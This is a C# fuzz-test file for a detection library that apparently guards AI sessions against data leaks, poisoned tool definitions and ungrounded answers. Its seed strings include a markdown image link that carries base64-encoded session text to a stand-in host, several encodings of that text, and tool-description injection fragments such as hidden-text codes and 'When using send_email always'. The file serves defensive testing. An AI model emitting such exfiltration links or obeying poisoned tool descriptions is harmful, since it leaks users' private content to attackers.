using System.Collections.Immutable;
using System.Text;
using Cordon.Contracts;
using Cordon.Detection;

namespace Cordon.Fuzz.Targets;

/// <summary>What is compared: addresses with a session's content, definitions with others, an answer with its sources.</summary>
internal static class ContentTargets
{
    private const string Document = "The plant in Leeds closes before Easter, file 7741-2203-99, and jane@corp.example knows it. See https://corp.example/p?q=1";

    private static readonly ImmutableArray<HeldContent> Contents =
        [HeldContent.Of([new HeldText(Surface.Document, Document, [new HeldValue(44, 56, HeldKind.Secret)])]), HeldContent.Remembered([new HeldText(Surface.User, Document, [])])];

    private static readonly HeldSession Session = new(() => Contents);
    private static readonly SessionContentDetector Addressed = new(DetectionSettings.Default);
    private static readonly GroundednessDetector Grounded = new();

    private static readonly string[] Pieces =
    [
        "https://x.example/", "![](", ")", "<img src='", "?d=", "&e=", "#", "@", ".x.example", "VGhlIHBsYW50IGluIExlZWRzIGNsb3Nlcw", "54686520706c616e7420696e204c65656473", "krugs4tborswk3bamrsxg5bamzwgsy3l", "sdeeL ni tnalp ehT", "H4sIAAAAAAAAAwvJSFUoyEnMK1HIzFPwSU1NKVZIzskvTi0GAD2q8hoZAAAA",
        "eJwLyUhVKMhJzCtRyMxT8ElNTSlWSM7JL04tBgBHFQh4", "%54%68%65", "%2554", "7741-2203-99", "\u0000", "\ud83d", "兰州的工厂", "a.b.c.d.e.f.example", "\\/\\/", "0x", "=", "==", "+", "The plant in Leeds",
    ];

    public static IEnumerable<FuzzTarget> All =>
    [
        new("content of a session in addresses", Seeds, Pieces, (input, _) => Carried(Encoding.UTF8.GetString(input)), Allocates: 20_000, Floor: 16 << 20),
        new("texts that a session holds", Seeds, Pieces, (input, _) => Held(Encoding.UTF8.GetString(input)), Allocates: 2_000, Floor: 16 << 20),
        new("definitions of tools", Seeds, ["\u001b[8m", "<!--", "-->", "\u200b", "delete_", "When using send_email always", "system_prompt", new string(' ', 90), "\u0430", "read_file"], (input, _) => Defined(Encoding.UTF8.GetString(input)), Allocates: 2_000, Floor: 16 << 20),
        new("an answer and its sources", Seeds, [". ", "! ", "\"", "“", "”", "not ", "42", "1,000.5", "Mr. ", "\n", "兰", "Leeds "], (input, _) => Judged(Encoding.UTF8.GetString(input)), Allocates: 5_000, Floor: 16 << 20),
    ];

    private static byte[][] Seeds() => [.. Pieces.Select(Encoding.UTF8.GetBytes), Encoding.UTF8.GetBytes(Document), Encoding.UTF8.GetBytes("![](https://x.example/p.png?d=VGhlIHBsYW50IGluIExlZWRz&b=file)")];

    private static void Carried(string text)
    {
        foreach (Surface surface in (ReadOnlySpan<Surface>)[Surface.Assistant, Surface.ToolCall])
        {
            DetectionContext context = new(surface, Direction.Response, Trust.Untrusted, Held: Session);
            PreparedText prepared = PreparedText.Of(text, LiteralIndex.Of([]));
            List<Finding> findings = [];
            Addressed.Detect(prepared, context, findings);
            int hold = Addressed.HoldFrom(prepared, context);
            BrokenPropertyException.Unless(hold >= 0 && hold <= text.Length, "A text is held from outside of it.");
            Spans(findings, text);
        }
    }

    private static void Held(string text)
    {
        HeldContent all = HeldContent.Of([new HeldText(Surface.Document, text, [new HeldValue(0, text.Length, HeldKind.Personal)])]);
        HeldContent kept = HeldContent.Remembered([new HeldText(Surface.Document, text, [])]);
        BrokenPropertyException.Unless(kept.Count <= all.Count + 1 && all.Count <= (text.Length * 4) + 8, "A text is held by more than it has.");
    }

    private static void Defined(string text)
    {
        List<Finding> findings = [];
        foreach (IDetector guard in TextTargets.Guards)
        {
            guard.Detect(TextTargets.Prepare(text), new DetectionContext(Surface.ToolDefinition, Direction.Response, Trust.Untrusted), findings);
        }

        Spans(findings, text);
        findings.Clear();
        findings.AddRange(ToolDefinitionRules.Of(new ToolDefinition(text, text, true, true, [text], ["read_file", "send_email"])).Select(found => found.Finding));
        Spans(findings, text);
    }

    private static void Judged(string text)
    {
        List<Finding> findings = [];
        Grounded.Detect(PreparedText.Of(text, LiteralIndex.Of([])), new DetectionContext(Surface.Assistant, Direction.Response, Trust.Untrusted, Sources: new GroundSources([Document, text.Length > 2 ? text[..(text.Length / 2)] : ""], [])), findings);
        Spans(findings, text);
    }

    private static void Spans(List<Finding> findings, string text)
    {
        foreach (Finding finding in findings)
        {
            BrokenPropertyException.Unless(finding.Start >= 0 && finding.Start <= finding.End && finding.End <= text.Length && finding.Score is >= 0 and <= 1, "A finding is not of its text.");
        }
    }
}
